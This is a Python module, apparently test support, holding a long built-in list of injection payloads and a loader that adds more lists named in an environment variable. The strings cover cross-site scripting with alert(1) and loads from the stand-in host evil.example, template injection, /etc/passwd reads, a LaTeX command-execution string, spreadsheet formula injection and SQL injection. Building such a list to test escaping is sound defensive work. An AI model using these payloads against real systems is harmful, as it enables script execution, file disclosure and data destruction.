"""Payloads that are meant to run, each calling `alert` or loading something from `evil.example`."""

from __future__ import annotations

import os
from pathlib import Path

VARIABLE = "MOTIR_ARCHIVE_PAYLOADS"
"""Names files with one payload a line, separated as PATH is."""

HOST = "evil.example"

OWN = (
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>"),
    *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>"),
    *('" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", '"><img src=x onerror=alert(1)>'),
    *("'><svg/onload=alert(1)>", "`onerror=alert(1)`", "<a href=javascript:alert(1)>x</a>"),
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)"),
    *(
        "[x](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)",
    ),
    *(
        "<iframe src=//evil.example>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=//evil.example>",
    ),
    *(
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input autofocus>",
    ),
    *("<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>"),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><img src=x onerror=alert(1)>",
    ),
    *("<template><script>alert(1)</script></template>", "<details open ontoggle=alert(1)>x</details>"),
    *("<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>"),
    *(
        "<input onfocus=alert(1) autofocus>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xmp><img src=x onerror=alert(1)>",
    ),
    *(
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
    ),
    *(
        "<?xml-stylesheet href='//evil.example/x.xsl'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example'>]>&e;",
    ),
    *(
        "{{ 7*7 }}{{ config }}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "${alert(1)}",
        "#{7*7}",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    *(
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3ealert(1)",
        "';alert(1)//",
        '";alert(1)//',
        "*/alert(1)/*",
    ),
    *(
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
    ),
    *(
        "=cmd|' /C calc'!A1",
        "+SUM(1)",
        "@SUM(1)",
        "-2+3",
        "'; DROP TABLE releases; --",
        "__proto__",
        "constructor",
    ),
    *(
        "<x contenteditable onblur=alert(1)>",
        "<img srcset='//evil.example/x 1x'>",
        "<a ping=//evil.example href=#>x</a>",
    ),
    *(
        "<img src='//evil.example/x",
        "\u202e<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
        "<\u200bscript>",
    ),
    *(
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
        "<a xlink:href=javascript:alert(1)>x</a>",
        "javascript&colon;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "<div style='width:expression(alert(1))'>",
    ),
    *(
        '"}]}</script><script>alert(1)</script>',
        "');alert(1);('",
        "\\');alert(1)//",
        "<!--<script>",
        "alert(1)\\",
        '{"__proto__": {"ran": 1}}',
    ),
    *(
        "toString",
        "hasOwnProperty",
        "<% alert(1) %>",
        "[[${7*7}]]",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    *(
        "\\input{/etc/passwd}",
        "}\\write18{id}{",
        "@article{x,",
        "$\\alpha$ & 5 % _x_ ~ #1",
        "TY  - JOUR",
        "ER  - ",
    ),
    *(
        "#:~:text=<script>",
        "%0Aalert(1)",
        "?q=<script>alert(1)</script>",
        "../../../../etc/passwd",
        "file:///etc/passwd",
    ),
    *(
        "\t=1+1",
        "|calc",
        "%=1",
        "{=1+1}",
        '""=1+1',
        "1;alert(1)",
        "' UNION SELECT 1 --",
        "MATCH 'x' OR NEAR(",
    ),
)
"""Markup, attributes, addresses, styles, templates, scripts, tables, prototypes, citations, queries."""


def payloads() -> list[str]:
    """Return all payloads, those of the named lists included, each in one line and without blanks around.

    NUL is left out of them: a file that has one is refused as damaged, and nothing of it would be looked at.
    """
    lists = [path for path in os.environ.get(VARIABLE, "").split(os.pathsep) if path]
    lines = [line for path in lists for line in _lines(Path(path))]
    return list(dict.fromkeys(payload for payload in (*OWN, *map(str.strip, lines)) if payload))


def _lines(path: Path) -> list[str]:
    return path.read_text("utf-8", "replace").replace("\0", "").split("\n")
